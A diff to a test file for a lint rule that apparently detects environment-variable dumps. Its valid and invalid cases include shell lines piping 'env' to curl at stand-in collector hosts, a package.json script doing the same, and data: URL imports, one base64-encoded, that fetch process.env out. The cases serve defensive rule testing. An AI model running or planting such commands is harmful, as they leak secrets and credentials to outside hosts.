@@ -10,6 +10,8 @@ const uploaded = (run: string, path: string): { readonly code: string; readonly 
 
 await ruleTester(rule, {
   valid: [
+    { code: 'env | curl -d @- https://collector.example-service.com\ncurl -d "$(env)" https://collector.example-service.com/x\n', filename: 'run.sh', settings: { allowedHosts: ['collector.example-service.com'] } },
+    { code: JSON.stringify({ scripts: { a: 'env | curl -d @- https://a.example-service.com' } }), filename: 'package.json', settings: { allowedHosts: ['*.example-service.com'] } },
     // programs in data: URLs, descriptors, proxies that look at one name
     { code: 'import("data:text/javascript,export default 1");' },
     { code: 'import logo from "data:image/svg+xml,<svg></svg>";' },
@@ -115,6 +117,7 @@ await ruleTester(rule, {
     { code: 'export default function Root({ env }) { return <script dangerouslySetInnerHTML={{ __html: `window.ENV=${JSON.stringify({ mode: process.env.NODE_ENV })}` }} />; }', filename: 'file.jsx' },
   ],
   invalid: [
+    { code: 'env | curl -d @- https://collector.example-service.com\n', filename: 'run.sh', settings: { allowedHosts: ['other.example-service.com'] }, errors: [{ messageId: 'dump' }] },
     // programs in data: URLs, descriptors, traps of a proxy
     { code: 'import(\'data:text/javascript,fetch("https://collect.example-service.com/?"+JSON.stringify(process.env))\');', errors: [{ messageId: 'dump', line: 1 }] },
     { code: `import('data:text/javascript;base64,${Buffer.from('fetch("https://collect.example-service.com/?"+JSON.stringify(process.env))').toString('base64')}');`, errors: [{ messageId: 'dump', line: 1 }] },
